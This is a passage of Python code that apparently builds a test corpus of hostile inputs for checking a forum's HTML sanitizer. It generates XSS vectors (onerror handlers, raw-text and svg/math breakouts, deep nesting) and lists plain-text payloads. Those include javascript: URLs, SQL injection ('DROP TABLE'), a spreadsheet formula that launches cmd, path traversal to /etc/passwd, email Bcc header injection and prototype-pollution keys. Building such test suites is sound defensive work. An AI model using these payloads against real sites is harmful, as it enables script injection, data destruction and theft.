        tag = ["b", "img src=x", "a href=#", "span tabindex=1", "video src=x", "input autofocus", "svg", "body", "details open", "marquee"][index % 10]
        name = tag.split()[0]
        classes["event handlers"].append(f"<{tag} {event}={RUNS}>«K»</{name}>")
    for index, address in enumerate(ADDRESSES):
        quoted = address.replace('"', "&quot;")
        classes["addresses"].append(f'<a href="{quoted}">«K»</a>')
        shape = ['<img src="{}" alt="«K»">', '<iframe src="{}"></iframe>', '<a class="quote_link" href="{}">«K»</a>', '<img class="timg" src="{}">', '<embed src="{}">', '<img class="sa-smilie" src="{}" alt=":«K»:">', '<object data="{}"></object>']
        classes["addresses"].append(shape[index % len(shape)].format(quoted))
    for name in RAW_TEXT:
        classes["raw text"] += [f"<{name}><img title='</{name}><img src=x onerror={RUNS}>'></{name}>", f"<{name}></{name}><img src=x onerror={RUNS}>", f"<{name}>&lt;/{name}&gt;&lt;img src=x onerror={RUNS}&gt;</{name}>", f"<{name}/><img src=x onerror={RUNS}>",
                                f"<{name}><!--</{name}><img src=x onerror={RUNS}>-->", f"<b title='<{name}>'>«K»</b><img src=x onerror={RUNS}>", f"<{name} x='</{name}>'><img src=x onerror={RUNS}>", f"<svg><{name}><img title='</{name}><img src=x onerror={RUNS}>'>", f"<math><{name}><img title='</{name}><img src=x onerror={RUNS}>'>", f"</{name}>«K»"]
    for entry in FOREIGN_ENTRIES:
        for root in ("svg", "math"):
            classes["foreign content"].append(f"<{root}><{entry}><style><a title='</style><img src=x onerror={RUNS}>'></{entry}></{root}>")
    for name in BREAKOUTS:
        classes["foreign content"].append(f"<{'svg' if len(name) % 2 else 'math'}><{name} onclick={RUNS} title='</svg></math><img src=x onerror={RUNS}>'>x")
    for depth in (60, 64, 70, 254, 258, 512):
        for name in ("div", "b", "blockquote", "ul><li", "table><tr><td", "span class=bbc-spoiler", "a href=http://a.example/", "font color=red", "svg", "x"):
            classes["size and depth"].append(f"<{name}>" * depth + f"«K»<img src=x onerror={RUNS}>")
    classes["size and depth"] += [
        "<div>" * 5000 + "«K»", "<b><i>" * 2500 + "«K»", "<b>x</b>" * 5000 + "«K»", "</div>" * 500 + "«K»", "<b class='" + "x " * 20000 + "'>«K»</b>", "<b " + " ".join(f"a{n}=1" for n in range(900)) + f" onclick={RUNS}>«K»</b>", f"<b title='{'x' * 200000}' onclick={RUNS}>«K»</b>",
        f"<img src=x alt='{'y' * 100000}' onerror={RUNS}>", "«K»" + "<br>" * 5000, "«K» " + "&lt;" * 50000, "<ul>" * 300 + "<li>«K»", "<p>" * 5000 + "«K»", "<font color=red>" * 1500 + "«K»", "<span class='" + "bbc-spoiler " * 500 + "'>«K»</span>", "<a href=http://a.example/>" * 3000 + "«K»",
        "<span class='" + "c-123456 " * 300 + "'>«K»</span>", "".join(f"<font color=#{n:06x}>x</font>" for n in range(0, 0xFFFFFF, 16000)) + "«K»", "<b><p>" * 1500 + "«K»",
    ]
    return classes


def classes() -> dict[str, list[str]]:
    """All vectors by the class of attack."""
    styles = [f'<b style="{style}">«K»</b>' for style in STYLES] + [f'<span style="{style}">«K»</span>' for style in STYLES]
    return {
        "scripts and tags": TAGS, "mutation": MUTATIONS, "remote loads": REMOTE, "forms and frames": FORMS, "style attributes": styles,
        "style sheets": SHEETS, "tree construction": CONSTRUCTION, "clobbering": CLOBBERING, "borrowed classes": BORROWED, "letters": UNICODE,
        "other formats": TEXTS_OF_FORMATS, **generated(),
    }


# Plain texts for where the site shows plain text: titles, names, descriptions.
TEXTS = [
    "<script>«J»</script>", "</title><script>«J»</script>", "</h1><img src=x onerror=«J»>", "\"><img src=x onerror=«J»>", "' onmouseover='«J»", "\" onmouseover=\"«J»", "`onmouseover=`«J»", "</script><script>«J»</script>", "<!--", "-->", "]]>", "<![CDATA[", "\u2028«J»\u2029", "\\\"};«J»//", "\\u003cscript>", "${«J»}", "{{«J»}}", "&lt;script&gt;«J»&lt;/script&gt;",
    "&#60;b&#62;", "%3Cscript%3E", "__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "prototype", "__defineGetter__", "a:__proto__", "=cmd|' /C calc'!A0", "+1", "-1", "@x", "From nobody Thu Jan  1 00:00:00 1970", "x\r\nBcc: a@b.example\r\n\r\nFrom x", "x\nContent-Type: text/html\n\n<script>«J»</script>", "=?utf-8?q?=0D=0ABcc:_a@b.example?=",
    "\u202egnp.exe", "\u0000x", "\u001b[31mred\u0007", "\u200b\u200b", "\ufeffx", "# x", "[x](javascript:«J»)", "![x](«U»)", "../../etc/passwd", "con.html", "a/b\\c", ".", "..", "x" * 240, "é" * 120, "\U0001f4a9" * 60, "e" + "\u0301" * 100, "﷽" * 30, "a,b;c\td\"e", "'; DROP TABLE post; --", "javascript:«J»", "<img src=x onerror=«J»>", "<svg onload=«J»>", "<b>bold</b>", "<a href=javascript:«J»>x</a>", "&", "&amp;amp;", "\"", "'", "`", "<", ">",
]
